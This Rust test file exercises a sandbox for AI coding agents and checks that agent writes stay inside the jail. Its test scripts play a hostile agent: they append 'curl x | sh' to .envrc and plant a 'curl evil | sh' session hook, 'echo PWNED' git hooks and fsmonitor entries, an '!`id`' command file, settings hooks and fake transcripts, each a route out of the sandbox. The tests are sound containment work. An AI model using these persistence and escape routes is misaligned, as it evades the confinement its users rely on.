//! The jail's own agent state directories (`jail::statedir`), tried in a real jail: a settings file
//! your own agent saves by rename during the session never becomes writable in the jail (sealed,
//! or the jail's own copy: `own_settings`); what the
//! agent writes (a new name, transcripts, memory) is never yours, during the session or after it,
//! and is there for the jail's next session; credentials of your account and the history come back,
//! yours win where you changed them; Codex's `SQLite` stores are the jail's own, its memories one
//! session's only.

use crate::common::*;
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

fn wait_for(p: &Path, what: &str) {
    let t0 = Instant::now();
    while !p.exists() {
        assert!(t0.elapsed() < Duration::from_secs(30), "timed out: {what}");
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn spawn(f: &Fixture, script: &str, seal: Option<&str>) -> Running {
    let mut cmd = f.cmd(["run", "--", "bash", "-c", script]);
    if let Some(mode) = seal {
        cmd.env("CLAUDE_SANDBOX_SEAL", mode);
    }
    let child = cmd
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    Running(Some(child))
}

/// Save `path` as an agent outside does: a temporary file beside it, renamed over it.
fn save_by_rename(path: &Path, text: &str) {
    let tmp = path.with_extension(format!("tmp.{}", std::process::id()));
    std::fs::write(&tmp, text).unwrap();
    std::fs::rename(&tmp, path).unwrap();
}

#[test]
fn a_settings_file_saved_by_rename_outside_stays_sealed() {
    rename_outside(None);
}

#[test]
fn a_settings_file_saved_by_rename_outside_stays_sealed_when_bwrap_makes_every_mount() {
    rename_outside(Some("bwrap"));
}

/// The agent writes hooks into every settings file in a tight loop while your own agent saves
/// them by rename, 50 times each: nothing the agent wrote may be in the files you end up with.
fn rename_outside(seal: Option<&str>) {
    let f = Fixture::new();
    let files = [
        ".claude/settings.json",
        ".codex/config.toml",
        ".gemini/settings.json",
    ];
    for rel in files {
        std::fs::create_dir_all(f.home.join(rel).parent().unwrap()).unwrap();
        std::fs::write(f.home.join(rel), "{}\n").unwrap();
    }
    let script = r#"touch ready
        n=0
        while [ ! -e go ]; do
          s=~/.claude/settings.json
          echo '{"hooks":"AGENTMARK"}' > "$s" 2>/dev/null && n=$((n+1))
          echo 'AGENTMARK' >> "$s" 2>/dev/null && n=$((n+1))
          mv -f "$s" "$s.gone" 2>/dev/null && n=$((n+1))
          # Codex's and Gemini CLI's are the jail's own copies: the writes land there, never in yours.
          for s in ~/.codex/config.toml ~/.gemini/settings.json; do
            echo '{"hooks":"AGENTMARK"}' > "$s"
            echo 'AGENTMARK' >> "$s"
            mv -f "$s" "$s.gone"
          done
        done
        echo "agent writes that landed: $n""#;
    let child = spawn(&f, script, seal);
    wait_for(&f.ws.join("ready"), "the jail's loop");
    for i in 0..50 {
        for rel in files {
            let path = f.home.join(rel);
            save_by_rename(&path, &format!("{{\"yours\":{i}}}\n"));
            std::thread::sleep(Duration::from_millis(1));
            let text = std::fs::read_to_string(&path).unwrap();
            assert!(
                !text.contains("AGENTMARK"),
                "after your rename {i}, {rel} holds the agent's bytes:\n{text}"
            );
        }
    }
    std::fs::write(f.ws.join("go"), "").unwrap();
    let out = child.wait();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("agent writes that landed: 0"),
        "{}",
        stdout(&out)
    );
    for rel in files {
        let text = std::fs::read_to_string(f.home.join(rel)).unwrap();
        assert_eq!(text, "{\"yours\":49}\n", "{rel}");
        assert!(!f.home.join(format!("{rel}.gone")).exists());
    }
}

#[test]
fn a_new_name_at_the_top_is_never_yours_and_is_the_jails_next_time() {
    let f = Fixture::new();
    std::fs::create_dir_all(f.home.join(".claude")).unwrap();
    let child = spawn(
        &f,
        "echo '{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}' > ~/.claude/.config.json && \
         echo plant > ~/.claude/CLAUDE.md.new && touch ready && \
         while [ ! -e go ]; do sleep 0.01; done",
        None,
    );
    wait_for(&f.ws.join("ready"), "the plant");
    assert!(
        !f.home.join(".claude/.config.json").exists(),
        "readable by your agent while the session runs"
    );
    std::fs::write(f.ws.join("go"), "").unwrap();
    let out = child.wait();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!f.home.join(".claude/.config.json").exists());
    assert!(!f.home.join(".claude/CLAUDE.md.new").exists());
    // The jail's own, for its next session; no alert: nothing of it is yours.
    let out = f.jail("cat ~/.claude/CLAUDE.md.new");
    assert_eq!(stdout(&out), "plant\n", "{}", stderr(&out));
    let alerts = stdout(&f.cmd(["alerts", "--json"]).output().unwrap());
    assert_eq!(alerts.trim(), "[]", "{alerts}");
}

#[test]
fn credentials_and_history_come_back_and_yours_win_where_you_changed_them() {
    let f = Fixture::new();
    let claude = f.home.join(".claude");
    std::fs::create_dir_all(&claude).unwrap();
    let creds = |token: &str| {
        format!(
            "{{\"claudeAiOauth\":{{\"accessToken\":\"{token}\",\"refreshToken\":\"r\",\"accountUuid\":\"me\",\"organizationUuid\":\"o\"}}}}\n"
        )
    };
    std::fs::write(claude.join(".credentials.json"), creds("old")).unwrap();
    std::fs::write(claude.join("history.jsonl"), "{\"n\":1}\n").unwrap();
    std::fs::write(claude.join("stats-cache.json"), "{\"s\":1}\n").unwrap();
    let script = format!(
        "w=$PWD; cd ~/.claude && printf '%s' '{}' > .credentials.json.tmp.1a2b && \
         mv .credentials.json.tmp.1a2b .credentials.json && echo '{{\"n\":\"jail\"}}' >> history.jsonl && \
         echo '{{\"s\":\"jail\"}}' > stats-cache.json && mkdir todos && echo t > todos/t.json && \
         mkdir x.lock && touch $w/ready && while [ ! -e $w/go ]; do sleep 0.01; done",
        creds("new").trim_end()
    );
    let child = spawn(&f, &script, None);
    wait_for(&f.ws.join("ready"), "the jail's writes");
    // Meanwhile your own agent appends to the history and saves its stats.
    let mut h = std::fs::OpenOptions::new()
        .append(true)
        .open(claude.join("history.jsonl"))
        .unwrap();
    std::io::Write::write_all(&mut h, b"{\"n\":\"yours\"}\n").unwrap();
    save_by_rename(&claude.join("stats-cache.json"), "{\"s\":\"yours\"}\n");
    std::fs::write(f.ws.join("go"), "").unwrap();
    let out = child.wait();
    assert!(out.status.success(), "{}", stderr(&out));
    let read = |n: &str| std::fs::read_to_string(claude.join(n)).unwrap();
    // A refreshed token of your account: back with no prompt and no alert.
    assert_eq!(read(".credentials.json"), creds("new").trim_end());
    // The history is yours, appended in place by both.
    assert_eq!(
        read("history.jsonl"),
        "{\"n\":1}\n{\"n\":\"jail\"}\n{\"n\":\"yours\"}\n"
    );
    assert_eq!(read("stats-cache.json"), "{\"s\":\"yours\"}\n", "yours win");
    assert!(
        !claude.join("todos").exists(),
        "a directory of agent state is the jail's own"
    );
    assert!(!claude.join("x.lock").exists(), "a lock is the jail's");
    let alerts = stdout(&f.cmd(["alerts", "--json"]).output().unwrap());
    assert_eq!(alerts.trim(), "[]", "{alerts}");
}

/// Transcripts and auto memory are instructions for the agent that resumes or reads them: what the
/// jail writes is the jail's own (its next session resumes it), your unjailed `claude --continue`
/// never sees it, and your other projects are not in the jail.
#[test]
fn transcripts_and_memory_are_the_jails_own() {
    let f = Fixture::new();
    let claude = f.home.join(".claude");
    let mine = claude.join("projects/-somewhere-else");
    std::fs::create_dir_all(mine.join("memory")).unwrap();
    std::fs::write(mine.join("memory/MEMORY.md"), "yours\n").unwrap();
    let slug = f.claude_project();
    let script = format!(
        "p=~/.claude/projects; mkdir -p $p/{slug}/memory && echo s > $p/{slug}/session.jsonl && echo T; \
         echo m > $p/{slug}/memory/MEMORY.md && echo M; \
         ls $p/-somewhere-else >/dev/null 2>&1 || echo HIDDEN"
    );
    let out = f.jail(&script);
    let text = stdout(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    for want in ["T", "M", "HIDDEN"] {
        assert!(text.lines().any(|l| l == want), "{want} missing: {text}");
    }
    assert!(
        !claude.join("projects").join(&slug).exists(),
        "a transcript reached you"
    );
    assert_eq!(
        std::fs::read_to_string(mine.join("memory/MEMORY.md")).unwrap(),
        "yours\n"
    );
    let out = f.jail(&format!(
        "cat ~/.claude/projects/{slug}/session.jsonl ~/.claude/projects/{slug}/memory/MEMORY.md"
    ));
    assert_eq!(
        stdout(&out),
        "s\nm\n",
        "the jail's next session: {}",
        stderr(&out)
    );
}

#[test]
fn codex_keeps_its_sqlite_stores_in_the_jails_own_directory() {
    let f = Fixture::new();
    let codex = f.home.join(".codex");
    std::fs::create_dir_all(&codex).unwrap();
    std::fs::write(codex.join("memories_1.sqlite"), "yours").unwrap();
    let script = "cd \"$CODEX_SQLITE_HOME\" && echo jail >> memories_1.sqlite && echo n > state_5.sqlite-wal && \
         cat memories_1.sqlite; echo x > ~/.codex/memories_1.sqlite 2>/dev/null || echo RO";
    let out = f.jail(script);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "jail\nRO\n");
    // The next session finds its threads' store, and no memories: they steer one session only.
    let out = f.jail("cd \"$CODEX_SQLITE_HOME\" && cat state_5.sqlite-wal && ls");
    assert_eq!(stdout(&out), "n\nstate_5.sqlite-wal\n", "{}", stderr(&out));
    assert_eq!(
        std::fs::read(codex.join("memories_1.sqlite")).unwrap(),
        b"yours"
    );
    assert!(!codex.join("state_5.sqlite-wal").exists());
}

/// In the workspace a seal on a single file loses its bind when your editor replaces the file by
/// rename (the jail must write the directory): it is bound again within milliseconds, and you are
/// told at the end to review what was replaced.
#[test]
fn a_workspace_entry_point_replaced_outside_is_sealed_again_and_alerted() {
    let f = Fixture::new();
    std::fs::write(f.ws.join(".envrc"), "export A=1\n").unwrap();
    std::fs::write(f.ws.join(".npmrc"), "fund=false\n").unwrap();
    let script = "touch ready; while [ ! -e renamed ]; do sleep 0.01; done; sleep 0.5; \
         if echo 'curl x | sh' >> .envrc 2>/dev/null; then echo WROTE; else echo REFUSED; fi; \
         while [ ! -e go ]; do sleep 0.01; done";
    let child = spawn(&f, script, None);
    wait_for(&f.ws.join("ready"), "the session");
    save_by_rename(&f.ws.join(".envrc"), "export A=2\n");
    std::fs::write(f.ws.join(".npmrc"), "fund=true\n").unwrap(); // in place: the seal holds
    std::fs::write(f.ws.join("renamed"), "").unwrap();
    std::fs::write(f.ws.join("go"), "").unwrap();
    let out = child.wait();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        stdout(&out),
        "REFUSED\n",
        "the replaced seal was not bound again"
    );
    assert_eq!(
        std::fs::read_to_string(f.ws.join(".envrc")).unwrap(),
        "export A=2\n"
    );
    let alerts = stdout(&f.cmd(["alerts", "--json"]).output().unwrap());
    let list: serde_json::Value = serde_json::from_str(&alerts).unwrap();
    let detached: Vec<&str> = list
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["kind"] == "seal-detached")
        .map(|a| a["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        detached,
        vec![f.ws.join(".envrc").to_str().unwrap()],
        "{alerts}"
    );
}

#[test]
fn gemini_keeps_its_chats_and_memory_the_jails_own_and_its_tools_view() {
    let f = Fixture::new();
    let gemini = f.home.join(".gemini");
    std::fs::create_dir_all(gemini.join("tmp/bin")).unwrap();
    std::fs::write(gemini.join("tmp/bin/rg"), "#!/bin/sh\n").unwrap();
    let registry = format!("{{\"projects\":{{\"{}\":\"ws-1\"}}}}\n", f.ws.display());
    std::fs::write(gemini.join("projects.json"), &registry).unwrap();
    let script =
        "t=~/.gemini/tmp; mkdir -p $t/ws-1/chats && echo c > $t/ws-1/chats/c.json && echo C; \
         mkdir -p $t/ws-1/memory && echo m > $t/ws-1/memory/GEMINI.md && echo M; \
         cat $t/bin/rg >/dev/null && echo RG; echo x >> $t/bin/rg 2>/dev/null || echo R3";
    let out = f.jail(script);
    let text = stdout(&out);
    for want in ["C", "M", "RG", "R3"] {
        assert!(
            text.lines().any(|l| l == want),
            "{want} missing: {text}{}",
            stderr(&out)
        );
    }
    assert!(
        !gemini.join("tmp/ws-1").exists(),
        "chats and memory reached you"
    );
    assert_eq!(
        std::fs::read_to_string(gemini.join("tmp/bin/rg")).unwrap(),
        "#!/bin/sh\n"
    );
    assert_eq!(
        std::fs::read_to_string(gemini.join("projects.json")).unwrap(),
        registry
    );
}

/// A script your sealed settings run, below a directory you do not have yet (`~/.claude/cache/`,
/// `~/.codex/tmp/`, `~/.gemini/tmp/`): the agent makes the directory and the script in it (a file,
/// or a link to its own script): it stays the jail's, where your agent never runs it.
#[test]
fn a_script_your_settings_run_never_comes_out_of_the_jails_state() {
    let f = Fixture::new();
    let h = f.home.display().to_string();
    for d in [".claude", ".codex", ".gemini"] {
        std::fs::create_dir_all(f.home.join(d)).unwrap();
    }
    std::fs::write(
        f.home.join(".claude/settings.json"),
        format!(
            "{{\"hooks\":{{\"Stop\":[{{\"hooks\":[{{\"type\":\"command\",\
             \"command\":\"{h}/.claude/cache/hook.sh\"}}]}}]}}}}\n"
        ),
    )
    .unwrap();
    std::fs::write(
        f.home.join(".codex/config.toml"),
        format!("notify = [\"{h}/.codex/tmp/notify.sh\"]\n"),
    )
    .unwrap();
    let script = "mkdir -p ~/.claude/cache ~/.codex/tmp evil && \
         echo 'echo PWNED' > evil/hook.sh && chmod +x evil/hook.sh && \
         cp evil/hook.sh ~/.claude/cache/hook.sh && \
         ln -s $PWD/evil/hook.sh ~/.codex/tmp/notify.sh && echo PLANTED";
    let out = f.jail(script);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "PLANTED\n");
    for named in [".claude/cache", ".codex/tmp"] {
        assert!(
            f.home.join(named).symlink_metadata().is_err(),
            "~/{named} reached you: your agent runs what is in it outside the jail"
        );
    }
}

/// Dotfiles kept in the workspace (stow, chezmoi): `~/.claude/settings.json`, `CLAUDE.md` and
/// `commands/` are links into it. The files your agent reads outside must stay read-only in the jail
/// however the agent reaches them.
#[test]
fn entry_points_linked_into_the_workspace_stay_read_only() {
    let f = Fixture::new();
    let dot = f.ws.join("dot");
    std::fs::create_dir_all(dot.join("commands")).unwrap();
    std::fs::write(dot.join("settings.json"), "{}\n").unwrap();
    std::fs::write(dot.join("CLAUDE.md"), "yours\n").unwrap();
    let claude = f.home.join(".claude");
    std::fs::create_dir_all(&claude).unwrap();
    for n in ["settings.json", "CLAUDE.md", "commands"] {
        std::os::unix::fs::symlink(dot.join(n), claude.join(n)).unwrap();
    }
    let script = "echo '{\"hooks\":1}' > ~/.claude/settings.json 2>/dev/null && echo W1; \
         echo plant >> ~/.claude/CLAUDE.md 2>/dev/null && echo W2; \
         echo '!`id`' > ~/.claude/commands/x.md 2>/dev/null && echo W3; \
         echo '{\"hooks\":1}' > dot/settings.json 2>/dev/null && echo W4; \
         echo plant >> dot/CLAUDE.md 2>/dev/null && echo W5; \
         echo '!`id`' > dot/commands/y.md 2>/dev/null && echo W6; echo END";
    let out = f.jail(script);
    assert_eq!(stdout(&out), "END\n", "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(dot.join("settings.json")).unwrap(),
        "{}\n"
    );
    assert_eq!(
        std::fs::read_to_string(dot.join("CLAUDE.md")).unwrap(),
        "yours\n"
    );
    assert_eq!(std::fs::read_dir(dot.join("commands")).unwrap().count(), 0);
}

/// Gemini CLI's checkpoints are shadow git repositories (`~/.gemini/history/<project>/.git`) in which
/// your Gemini CLI runs `git add` and `git commit`: a hook or `core.fsmonitor` the agent wrote there
/// would run outside the jail. They are the session's own.
#[test]
fn gemini_checkpoint_repositories_are_the_sessions_own() {
    let f = Fixture::new();
    let repo = f.home.join(".gemini/history/abc");
    std::fs::create_dir_all(&repo).unwrap();
    f.git(&repo, &["init", "-q"]);
    let config = std::fs::read_to_string(repo.join(".git/config")).unwrap();
    let script =
        "g=~/.gemini/history/abc/.git; mkdir -p $g/hooks ~/.gemini/history/new/.git/hooks; \
         echo 'echo PWNED' > $g/hooks/pre-commit 2>/dev/null && echo W1; \
         git config -f $g/config core.fsmonitor 'echo PWNED' 2>/dev/null && echo W2; \
         echo x > ~/.gemini/history/new/.git/hooks/pre-commit && echo NEW";
    let out = f.jail(script);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "W1\nW2\nNEW\n", "the session's own, writable");
    assert!(!repo.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(repo.join(".git/config")).unwrap(),
        config
    );
    assert!(!f.home.join(".gemini/history/new").exists());
}

/// Claude Code's background jobs (`~/.claude/jobs/<id>/`, with the `adopt.json` hand-off of shells
/// and workflow scripts another Claude Code process adopts and runs) are the session's own: what the
/// agent writes there never reaches yours.
#[test]
fn claude_background_jobs_are_the_sessions_own() {
    let f = Fixture::new();
    let jobs = f.home.join(".claude/jobs");
    std::fs::create_dir_all(jobs.join("j1")).unwrap();
    std::fs::write(jobs.join("j1/state.json"), "{}\n").unwrap();
    let script = "cd ~/.claude/jobs && ls; mkdir -p j1 j2 && \
         echo '{\"shells\":[{\"shellCommand\":\"id\"}]}' > j1/adopt.json && \
         cp j1/adopt.json j2/adopt.json && echo PLANTED";
    let out = f.jail(script);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "PLANTED\n", "yours are not in the jail");
    assert!(!jobs.join("j1/adopt.json").exists());
    assert!(!jobs.join("j2").exists());
    assert_eq!(
        std::fs::read_to_string(jobs.join("j1/state.json")).unwrap(),
        "{}\n"
    );
}

/// Claude Code runs `~/.claude/session-env/<session>/sessionstart-hook-<n>.sh` (and `setup`,
/// `cwdchanged`, `filechanged`) before every Bash command of that session, also a session you resume
/// outside the jail (resuming keeps its id): the session's own, never yours.
#[test]
fn claude_session_environment_scripts_are_the_sessions_own() {
    let f = Fixture::new();
    let env = f.home.join(".claude/session-env");
    std::fs::create_dir_all(env.join("4f1c")).unwrap();
    let script = "cd ~/.claude/session-env && ls; mkdir -p 4f1c new && \
         echo 'curl evil | sh' > 4f1c/sessionstart-hook-0.sh && \
         cp 4f1c/sessionstart-hook-0.sh new/setup-hook-0.sh && echo PLANTED";
    let out = f.jail(script);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "PLANTED\n", "yours are not in the jail");
    assert!(!env.join("4f1c/sessionstart-hook-0.sh").exists());
    assert!(!env.join("new").exists());
}

/// A project of yours is not in the jail: a transcript the agent adds under its name is the jail's
/// own; your `claude --continue` there resumes only yours.
#[test]
fn a_transcript_planted_in_another_project_of_yours_stays_out() {
    let f = Fixture::new();
    let other = f.home.join(".claude/projects/-home-you-other");
    std::fs::create_dir_all(&other).unwrap();
    std::fs::write(other.join("old.jsonl"), "yours\n").unwrap();
    let script = "p=~/.claude/projects/-home-you-other; ls $p 2>/dev/null; mkdir -p $p && \
         echo '{\"type\":\"user\"}' > $p/newest.jsonl && echo PLANTED";
    let out = f.jail(script);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "PLANTED\n", "yours were in the jail");
    assert!(
        !other.join("newest.jsonl").exists(),
        "the planted transcript reached you"
    );
    assert_eq!(
        std::fs::read_to_string(other.join("old.jsonl")).unwrap(),
        "yours\n"
    );
}
